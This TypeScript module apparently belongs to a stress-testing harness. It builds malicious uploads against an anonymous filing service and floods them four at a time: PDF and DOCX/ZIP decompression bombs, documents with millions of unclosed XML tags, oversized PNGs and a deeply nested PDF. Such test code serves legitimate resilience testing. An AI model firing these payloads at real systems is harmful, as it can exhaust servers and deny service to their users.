import { filing, graph, passFor, SUBMIT, uploadWhole } from './asking.js';
import type { Attack, Field } from './attack.js';
import { deflatedRun, docx, hugePng, nestedPdf, part, pdfBomb, unclosed, zip } from './crafted.js';

const MB = 1_048_576;

/** An anonymous filing with one file, which is cleaned before it is kept. */
async function filedWith(field: Field, file: Buffer): Promise<void> {
  const from = field.address();
  const { origin } = field.target;
  const pass = await passFor(origin, from);
  const uploaded = await uploadWhole(origin, file, pass, from);
  if (uploaded.id === null) return void field.heard(uploaded);
  const input = filing({ anonymous: true, petitioners: [], attachments: [uploaded.id], uploadPass: pass });
  field.heard(await graph(origin, SUBMIT, { input }, { from, timeoutMs: 90_000 }));
}

/** Four at once, as many times as there are files for. */
async function fourAtOnce(field: Field, files: readonly Buffer[]): Promise<void> {
  await field.flood(files.length, 4, 90, (index) => filedWith(field, files[index]!));
}

/** Attacks with files that are made before anything is measured. */
function withFiles(attack: Omit<Attack, 'prepare' | 'run'>, make: () => Buffer[]): Attack {
  let files: Buffer[] = [];
  return { ...attack, prepare: () => void (files = make()), run: (field) => fourAtOnce(field, files) };
}

const XML = '<?xml version="1.0"?>';
const run = (name: string, length: number, size = length) => ({ name, packed: deflatedRun(length, 0x20), size });

export const fileAttacks: readonly Attack[] = [
  withFiles(
    {
      name: 'pdf-bombs',
      tries: 'PDFs of 0.5 and 3 MB that unpack to 500 MB and 3 GB, four at once, attached to anonymous filings',
      short: true,
    },
    () => [500, 3_000, 3_000, 3_000, 500].map((megabytes) => pdfBomb(megabytes * MB)),
  ),
  withFiles(
    {
      name: 'office-unclosed',
      tries: 'DOCX of 8 KB with two million openings that never close, four at once',
      short: true,
    },
    () => [
      unclosed('<!--', 2_000_000),
      unclosed('<mc:AlternateContent>', 2_000_000),
      unclosed('<w:rsids>', 2_000_000),
      unclosed('<w:docVars ', 2_000_000),
      unclosed('<a b="', 2_000_000),
      unclosed('<a \'"', 2_000_000),
    ],
  ),
  withFiles(
    {
      name: 'zip-bombs',
      tries: 'DOCX that unpack to 1 GB, lie of their size, hold types of 900 MB or 60,000 parts',
      short: false,
    },
    () => [
      docx(run('word/document.xml', 1_000 * MB)),
      docx(run('word/document.xml', 1_000 * MB, 1_000)),
      zip([{ ...run('[Content_Types].xml', 900 * MB), size: 1_000 }, part('word/document.xml', `${XML}<w:document/>`)]),
      docx(part('word/document.xml', `${XML}<w:document/>`), ...Array.from({ length: 60_000 }, (_, n) => part(`word/p${n}.xml`, '<p/>'))),
      docx(...Array.from({ length: 190 }, (_, n) => run(`word/p${n}.xml`, MB))),
    ],
  ),
  withFiles(
    {
      name: 'huge-pictures',
      tries: 'PNG of 3.6 thousand million and of 196 million points, PDF nested 200,000 deep',
      short: false,
    },
    () => [hugePng(60_000, 60_000), hugePng(14_000, 14_000), hugePng(14_000, 14_000), nestedPdf(200_000), hugePng(16_000, 16_000)],
  ),
];
